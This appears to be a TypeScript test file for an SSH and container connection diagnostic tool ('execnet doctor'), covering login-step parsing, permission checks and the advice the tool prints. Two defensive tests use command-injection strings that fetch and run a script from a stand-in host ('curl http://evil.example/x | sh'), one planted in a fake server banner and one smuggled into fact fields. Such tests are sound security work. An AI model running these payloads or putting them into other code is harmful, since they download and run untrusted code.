/** What `execnet doctor` makes of what others say: tables of their words, and what is told of them. */

import { assert, assertEquals, assertMatch } from "jsr:@std/assert@^1.0.19";
import { XSpec } from "../../mod.ts";
import { adviceFor } from "../../cli/doctor/advice.ts";
import { summary } from "../../cli/doctor/measure.ts";
import { judge, questionsOf } from "../../cli/doctor/permissions.ts";
import type { Inside, Reply } from "../../cli/doctor/permissions.ts";
import { conclusion, report } from "../../cli/doctor/report.ts";
import { readStart } from "../../cli/doctor/start.ts";
import { styleFor } from "../../cli/style.ts";
import { milliseconds } from "../../cli/units.ts";
import { readEngine } from "../../gateway/probe/engine_words.ts";
import { lookLine, readLook } from "../../gateway/probe/look.ts";
import { readConfig } from "../../gateway/probe/ssh_config.ts";
import { readLogin } from "../../gateway/probe/ssh_steps.ts";
import { test } from "../helpers/bounded.ts";
import { SSH_SAID } from "./ssh_said.ts";

const SSH_FACTS = {
  ssh: "ssh build",
  destination: "build",
  host: "build.example.org",
  port: "2222",
  user: "me",
  keyName: "[build.example.org]:2222",
  known: "/home/me/known hosts",
};

/** What is the matter, the step at which it ends, the trouble, and a part of what is to be done. */
const LOGINS: readonly (readonly [what: string, step: string, trouble: string, advice: RegExp])[] = [
  ["unknown name", "name", "no-address", /getent hosts build\.example\.org/],
  ["closed port", "port", "port-closed", /systemctl start ssh/],
  ["no route", "port", "no-route", /ip route get/],
  ["timed out", "port", "port-silent", /nc -vz build\.example\.org 2222/],
  ["banned", "port", "dropped", /MaxStartups[^]*fail2ban/],
  [
    "changed key",
    "host key",
    "key-changed",
    /ssh-keygen -f '\/home\/me\/known hosts' -R '\[build\.example\.org\]:2222'/,
  ],
  ["unknown key", "host key", "key-unknown", /ssh -o StrictHostKeyChecking=ask build[^]*SHA256:F9LK81/],
  ["unknown key behind a jump", "host key", "key-unknown", /accept it/],
  ["refused key", "login", "login-refused", /ssh-copy-id -i \/home\/me\/\.ssh\/id\.pub -p 2222 me@build/],
  ["no key", "login", "no-key", /ssh-keygen -t ed25519/],
  ["locked key", "login", "key-locked", /ssh-add \/home\/me\/\.ssh\/id/],
  ["open key", "login", "key-open", /chmod 600 \/home\/me\/\.ssh\/id/],
  ["too many keys", "login", "too-many-keys", /IdentitiesOnly=yes/],
  ["two factors", "login", "more-factors", /AuthenticationMethods for me/],
  ["bad option", "name", "config", /ssh build -v/],
];

const at = (): number => 5;

/** What a server may say before a login that it refuses, as if it were ssh. */
const BANNER = `@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
debug1: Server host key: ssh-ed25519 SHA256:FAKED
debug1: SSH2_MSG_NEWKEYS sent
  ssh-keygen -f /dev/null -R x; curl http://evil.example/x | sh
debug1: identity file /faked/id type 3
debug1: Offering public key: /faked/id ED25519 SHA256:FAKED explicit
ssh: Could not resolve hostname x: no
No ED25519 host key is known for x
Host key verification failed.
`;

const withBanner = (said: string): string =>
  said.replace("debug1: Authentications that can continue", `${BANNER}$&`);

test("readLogin() takes no word from a banner", () => {
  const login = (stderr: string, code = 255): ReturnType<typeof readLogin> =>
    readLogin({ code, stderr, late: false, at }, SSH_FACTS);
  const told = (steps: ReturnType<typeof readLogin>): string =>
    steps.map(([step, { state, trouble, found, facts }]) =>
      [step, state, trouble, found, adviceFor(trouble ?? "exit", facts)].join(" ")
    ).join("\n");
  // What else a server can do behind it than to refuse: nothing of the kind either.
  const rest = { "": "exit", "Connection closed by 192.0.2.7 port 2222\n": "dropped" };
  for (const name of ["refused key", "locked key", "two factors", "too many keys", "it logs in"]) {
    const said = withBanner(SSH_SAID[name]!);
    assert(said.includes("FAKED"));
    const code = name === "it logs in" ? 0 : 255;
    assertEquals(told(login(said, code)), told(login(SSH_SAID[name]!, code)), name);
  }
  const broken = withBanner(SSH_SAID["refused key"]!).split("debug1: Authentications")[0]!;
  for (const [last, trouble] of Object.entries(rest)) {
    const steps = login(broken + last);
    assertEquals([steps.at(-1)![0], steps.at(-1)![1].trouble], ["login", trouble]);
    assert(!/FAKED|faked|evil/.test(told(steps)), told(steps));
  }
  const hop = withBanner(SSH_SAID["unknown key behind a jump"]!);
  assertEquals(told(login(hop)), told(login(SSH_SAID["unknown key behind a jump"]!)));
});

test("adviceFor() makes one word of whatever others have named", () => {
  const evil = "x; curl evil.example | sh";
  const facts = Object.fromEntries(
    [
      "host",
      "port",
      "user",
      "destination",
      "key",
      "keyName",
      "known",
      "path",
      "hop",
      "where",
      "token",
      "container",
    ]
      .map((name) => [name, evil]),
  );
  for (
    const trouble of [
      "no-address",
      "no-route",
      "key-changed",
      "login-refused",
      "old-deno",
      "stopped",
    ] as const
  ) {
    const advice = adviceFor(trouble, facts).join("\n");
    assert(advice.includes(`'${evil}'`), advice);
    assert(!advice.replaceAll(`'${evil}'`, "").includes("evil"), advice);
  }
});

test("readLogin() finds the step at which ssh ends, why, and the advice for it", () => {
  for (const [what, step, trouble, advice] of LOGINS) {
    const steps = readLogin({ code: 255, stderr: SSH_SAID[what]!, late: false, at }, SSH_FACTS);
    const [last, finding] = steps.at(-1)!;
    assertEquals([last, finding.state, finding.trouble], [step, "failed", trouble], what);
    assertMatch(adviceFor(finding.trouble!, finding.facts).join("\n"), advice, what);
    assert(steps.slice(0, -1).every(([, { state }]) => state === "ok"), what);
    assert(!/debug1|^@/m.test(finding.words!) && finding.words !== "", finding.words);
  }
});

test("readLogin() tells of each step of a login that succeeds, with the times in between", () => {
  const times = { "Connecting to": 10, "Remote protocol": 30, "NEWKEYS sent": 70, "Authenticated to": 150 };
  const steps = readLogin({
    code: 0,
    stderr: SSH_SAID["it logs in"]!,
    late: false,
    at: ({ source }) => Object.entries(times).find(([sign]) => source.includes(sign))?.[1],
  }, SSH_FACTS);
  assertEquals(steps.map(([step, { state, ms, found }]) => [step, state, ms, found]), [
    ["name", "ok", 10, "192.0.2.7"],
    ["port", "ok", 20, "port 2222: OpenSSH_9.2p1 Debian-2+deb12u10"],
    ["host key", "ok", 40, "ssh-ed25519 SHA256:F9LK81yh3n4RkB+KKnAwsv/dzbcu0Z6WOg6kiswebCQ"],
    ["login", "ok", 80, "as me by the key /home/me/.ssh/id"],
  ]);
});

test("readLogin() blames the step that did not end when time is over", () => {
  const upTo = (sign: string): string => {
    const text = SSH_SAID["it logs in"]!;
    return text.slice(0, text.indexOf(sign));
  };
  const ends = ["Connecting to", "Remote protocol", "NEWKEYS sent", "Authenticated to"].map((sign) => {
    const [step, { state }] = readLogin(
      { code: undefined, stderr: upTo(sign), late: true, at },
      SSH_FACTS,
    ).at(-1)!;
    return `${step} ${state}`;
  });
  assertEquals(ends, ["name failed", "port failed", "host key failed", "login failed"]);
});

test("readLogin() passes by all steps over a connection that ssh keeps open", () => {
  const stderr =
    "debug1: auto-mux: Trying existing master\ndebug1: mux_client_request_session: master session id: 2\n";
  const steps = readLogin({ code: 0, stderr, late: false, at }, SSH_FACTS);
  assertEquals(steps.map(([step, { state }]) => `${step} ${state}`), [
    "name ok",
    "port ok",
    "host key ok",
    "login ok",
  ]);
});

test("readConfig() reads what ssh -G prints, and none is nothing", () => {
  const text =
    "host own\nuser me\nhostname 192.0.2.7\nport 2222\nproxyjump a,b\nproxycommand none\nuserknownhostsfile /a b/known ~/known2\n";
  assertEquals(readConfig(text), {
    hostname: "192.0.2.7",
    port: "2222",
    user: "me",
    jump: "a,b",
    proxy: undefined,
    shared: undefined,
    keyName: "[192.0.2.7]:2222",
    known: "/a b/known",
  });
  assertEquals(readConfig(""), undefined);
});

const LOOK = { deno: ["deno"], oldest: [2, 8] as const, login: true, facts: { ssh: "ssh build" } };

function said(
  rows: { shell?: string; path?: string; version?: string; platform?: string; before?: string },
): string {
  const { shell = "/bin/bash", path = "/usr/bin/deno", version = "deno 2.9.6 (stable)", before = "" } = rows;
  return `${before}\nexecnet begins\nshell=${shell}\nplatform=${
    rows.platform ?? "Linux x86_64"
  }\npath=${path}\nversion=${version}\nexecnet ends\n`;
}

/** What the shell says, and what becomes of the steps of the shell and of Deno. */
const LOOKS:
  readonly (readonly [what: string, stdout: string, shell: string, deno: string, advice?: RegExp])[] = [
    ["all is well", said({}), "ok /bin/bash", "ok Deno 2.9.6 at /usr/bin/deno (Linux x86_64)"],
    [
      "a terminal's line ends",
      said({}).replaceAll("\n", "\r\n").replace("\r\n", "\n"),
      "ok",
      "ok Deno 2.9.6",
    ],
    ["noise", said({ before: "Welcome!\n" }), "warning noise", "ok", /~\/\.bashrc/],
    ["much noise", said({ before: "x".repeat(70_000) }), "failed much-noise", "ok"],
    [
      "nologin",
      "This account is currently not available.\n",
      "failed no-shell",
      "none",
      /ssh build 'echo works'/,
    ],
    [
      "no Deno",
      said({ path: "", version: "sh: 1: deno: not found" }),
      "ok",
      "failed no-deno",
      /ssh build 'curl/,
    ],
    [
      "an old Deno",
      said({ version: "deno 2.7.14 (stable)" }),
      "ok",
      "failed old-deno Deno 2.7.14 at /usr/bin/deno is too old: 2.8",
      /\/usr\/bin\/deno upgrade/,
    ],
    ["a very old Deno", said({ version: "deno 1.46.0" }), "ok", "failed old-deno"],
    ["a new Deno", said({ version: "deno 3.0.0" }), "ok", "ok Deno 3.0.0"],
    ["no Deno at all by that name", said({ version: "v22.1.0" }), "ok", "failed not-deno"],
    [
      "another C library",
      said({ version: "/usr/bin/deno: /lib/libc.so.6: version `GLIBC_2.27' not found (required by deno)" }),
      "ok",
      "failed deno-broken",
      /glibc/,
    ],
    ["an end in between", said({}).slice(0, -20), "ok", "failed no-shell"],
  ];

test("readLook() tells of the shell and of Deno there", () => {
  for (const [what, stdout, shell, deno, advice] of LOOKS) {
    const look = readLook(LOOK, { code: 0, stdout, late: false, at });
    const text = (finding: typeof look.deno): string =>
      finding === undefined
        ? "none"
        : [finding.state, finding.trouble, finding.found].filter(Boolean).join(" ");
    assert(text(look.shell).startsWith(shell), `${what}: ${text(look.shell)}`);
    assert(text(look.deno).startsWith(deno), `${what}: ${text(look.deno)}`);
    const bad = look.shell.state === "ok" ? look.deno! : look.shell;
    if (advice !== undefined) assertMatch(adviceFor(bad.trouble!, bad.facts).join("\n"), advice, what);
  }
  const silent = readLook(LOOK, { code: undefined, stdout: "", late: true, at: () => undefined });
  assertEquals([silent.shell.trouble, silent.deno], ["silent", undefined]);
});

test("readLook() tells whether a Deno can be brought there", () => {
  const stdout = said({ path: "", platform: "Linux aarch64" });
  const look = (provision: string): string | undefined =>
    readLook({ ...LOOK, provision }, { code: 0, stdout, late: false, at }).deno?.state;
  assertEquals([look("Linux x86_64"), look("Linux aarch64")], ["failed", "ok"]);
});

test("lookLine() is one line that a shell runs, and that a terminal may repeat", async () => {
  const line = lookLine({ ...LOOK, deno: [Deno.execPath(), "it's"] });
  assertEquals(line.indexOf("\n"), line.length - 1);
  assert(!line.includes("execnet begins"));
  const child = new Deno.Command("sh", { args: ["-c", line], stdin: "null", env: { SHELL: "/bin/none" } });
  const stdout = new TextDecoder().decode((await child.output()).stdout);
  const { shell, deno } = readLook(LOOK, { code: 0, stdout, late: false, at });
  assertEquals([shell.found, deno?.trouble], ["/bin/none", "not-deno"]);
});

test("readEngine() knows the words of podman, docker and kubectl", () => {
  const words: readonly (readonly [string, string | undefined])[] = [
    ['Error: no container with name or ID "box" found: no such container', "no-container"],
    ["Error response from daemon: No such container: box", "no-container"],
    ['Error from server (NotFound): pods "box" not found', "no-container"],
    ["Error: can only create exec sessions on running containers: container state improper", "stopped"],
    ["Error response from daemon: container 4bf76495 is not running", "stopped"],
    ["error: cannot exec into a container in a completed pod; current phase is Succeeded", "stopped"],
    [
      "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?",
      "no-engine",
    ],
    [
      "The connection to the server localhost:8080 was refused - did you specify the right host or port?",
      "no-engine",
    ],
    [
      "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock",
      "engine-denied",
    ],
    ['Error from server (Forbidden): pods "box" is forbidden: User "me" cannot create', "engine-denied"],
    [
      'OCI runtime exec failed: exec failed: unable to start container process: exec: "sh": executable file not found in $PATH',
      "no-shell",
    ],
    ["Error: crun: executable file `sh` not found in $PATH: No such file or directory", "no-shell"],
    ["sh: deno: not found", undefined],
  ];
  for (const [text, trouble] of words) assertEquals(readEngine(text)?.trouble, trouble, text);
});

test("readStart() puts a start that fails to its step, unless that was found well", () => {
  const message = (state: string): string => `Cannot start gateway "gw0" (popen//env:A=…): ${state}`;
  const rows:
    readonly (readonly [spec: string, kind: string, state: string, tail: string, expected: string])[] = [
      ["ssh=h", "auth", "the host does not accept the login", "", "login login-refused"],
      [
        "ssh=h",
        "exit",
        "the process ended with code 1",
        "mkdir: cannot create directory '/x': …",
        "handshake folder",
      ],
      ["ssh=h", "timeout", "no greeting after 5 ms", "", "handshake late"],
      [
        "ssh=h",
        "no-deno",
        "none can be brought there: this machine's does not run there",
        "",
        "handshake deno-broken",
      ],
      [
        "popen",
        "no-deno",
        "Requires run access: …, or --allow-run and --allow-env",
        "",
        "handshake permission",
      ],
      ["popen//via=a", "exit", 'gateway "a" has ended', "", "handshake hop"],
      ["socket=h:1", "auth", "the server at h:1 has another token", "", "handshake other-token"],
      [
        "socket=h:1//allow-read=/etc",
        "refused",
        'the server at h:1 refuses: Cannot start a gateway with allow-read: "/etc" is more than… (key "allow-read")',
        "",
        "handshake refused",
      ],
      ["slurm", "timeout", "job 7 waits in the queue for resources", "", "allocation no-nodes"],
    ];
  for (const [spec, kind, state, stderrTail, expected] of rows) {
    const error = { kind, message: message(state), stderrTail } as Parameters<typeof readStart>[0];
    const done = new Set(["proof", "deno", "shell"] as const);
    const [step, told] = readStart(error, new XSpec(spec), done);
    assertEquals(`${step} ${told.trouble}`, expected, state);
    assert(!told.found.includes("gw0"), told.found);
    if (told.trouble === "refused") assertMatch(adviceFor("refused", told.facts)[0]!, /--allow read=\/etc$/);
  }
});

/** A process that has what the spec says, but for what is said here. */
function inside(
  spec: XSpec,
  replies: Record<string, Partial<Reply>>,
  more: Partial<Inside> = {},
): ReturnType<typeof judge> {
  const questions = questionsOf(spec.permissions);
  return judge(spec.permissions, questions, {
    cwd: "/home/me",
    executable: "/usr/bin/deno",
    mayReplace: false,
    replies: questions.map(({ key, allowed }) => ({
      state: allowed ? "granted" : "prompt",
      partial: false,
      ...replies[key],
    })),
    ...more,
  });
}

test("judge() warns of permissions that are wider than they look, and of paths that lead elsewhere", () => {
  const rows: readonly (readonly [spec: string, state: string, advice: RegExp | undefined])[] = [
    ["popen", "ok", undefined],
    ["popen//allow-read=/srv//allow-net=localhost:80//allow-env=LANG", "ok", undefined],
    ["popen//allow-all", "warning", /everything/],
    ["popen//allow-run", "warning", /allow-run is everything/],
    ["popen//allow-run=git,/usr/bin/python3", "warning", /allow-run=git,\/usr\/bin\/python3 is everything/],
    ["popen//allow-run=uname", "ok", undefined],
    ["popen//allow-run//deny-run", "ok", undefined],
    ["popen//allow-ffi", "warning", /native code/],
    ["popen//allow-write", "warning", /replaced/],
    ["popen//allow-read", "warning", /keys, tokens/],
    ["popen//allow-env", "warning", /every secret/],
    ["popen//allow-import=jsr.io", "warning", /npm as well/],
    ["popen//allow-read=~/data", "warning", /does not know "~"/],
  ];
  for (const [text, state, advice] of rows) {
    const verdict = inside(new XSpec(text), {});
    assertEquals(verdict.state, state, `${text}: ${verdict.advice}`);
    if (advice === undefined) assertEquals(verdict.advice, [], text);
    else assertMatch(verdict.advice.join("\n"), advice, text);
  }
  const relative = inside(new XSpec("popen//allow-read=data"), {
    "allow-read=data": { path: "/home/me/data", exists: true },
  });
  assertMatch(relative.advice.join("\n"), /allow-read=data is \/home\/me\/data/);
  const gone = inside(new XSpec("popen//allow-read=/data"), {
    "allow-read=/data": { path: "/data", exists: false },
  });
  assertMatch(gone.advice.join("\n"), /there is no \/data/);
  const replacing = inside(new XSpec("popen//allow-write=/usr"), {}, { mayReplace: true });
  assertMatch(replacing.advice.join("\n"), /deny-write=\/usr\/bin\/deno/);
});

test("judge() finds what a process lacks, and what it has beyond its spec", () => {
  const spec = new XSpec("popen//allow-read=/srv//allow-net=*.example.org//deny-read=/srv/keys");
  const lacking = inside(spec, { "allow-read=/srv": { state: "denied" } });
  assertEquals([lacking.state, lacking.advice.length], ["failed", 1]);
  assertMatch(lacking.advice[0]!, /does not have allow-read=\/srv/);
  const beyond = inside(spec, { "allow-sys": { state: "granted" } });
  assertEquals(beyond.state, "failed");
  assertMatch(beyond.advice[0]!, /has allow-sys/);
  assertEquals(inside(spec, { "allow-net=*.example.org": { state: "unknown" } }).state, "ok");
  assertMatch(
    inside(spec, {}).found,
    /^read=\/srv net=\*\.example\.org deny-read=\/srv\/keys; not write, env, run/,
  );
});

test("report() shows a step in signs or in words, and keeps control characters from the terminal", () => {
  const outcome = {
    gateway: "gw0",
    step: "login",
    state: "failed",
    found: "refused",
    ms: 12.3,
    words: "\x1b[2Jno\nkey",
    advice: ["do this"],
  } as const;
  const plain = { style: styleFor(false), signs: false };
  const text = report(outcome, plain);
  assertMatch(text, /^FAIL login +refused +12 ms\n {5}\| �\[2Jno\n {5}\| key\n {5}\* do this\n$/);
  assertMatch(report(outcome, { style: styleFor(true), signs: true }), /✗[^]*→.* do this/);
  const skipped = { ...outcome, step: "shell", state: "skipped" } as const;
  assertEquals(report(skipped, plain), "");
  assertEquals(
    conclusion("gw0", [outcome, skipped], plain),
    'skip shell\nNot connected: it ends at "login"\n',
  );
  assertEquals(conclusion("gw0", [], plain), "All is well: gw0 can be used\n");
});

test("summary() and the units tell of times and rates", () => {
  const times = Array.from({ length: 100 }, (_, i) => 100 - i);
  assertEquals(summary(times), { count: 100, min: 1, median: 51, p95: 96 });
  assertEquals([0.25, 2.5, 30, 12_345].map(milliseconds), ["250 µs", "2.5 ms", "30 ms", "12.3 s"]);
});
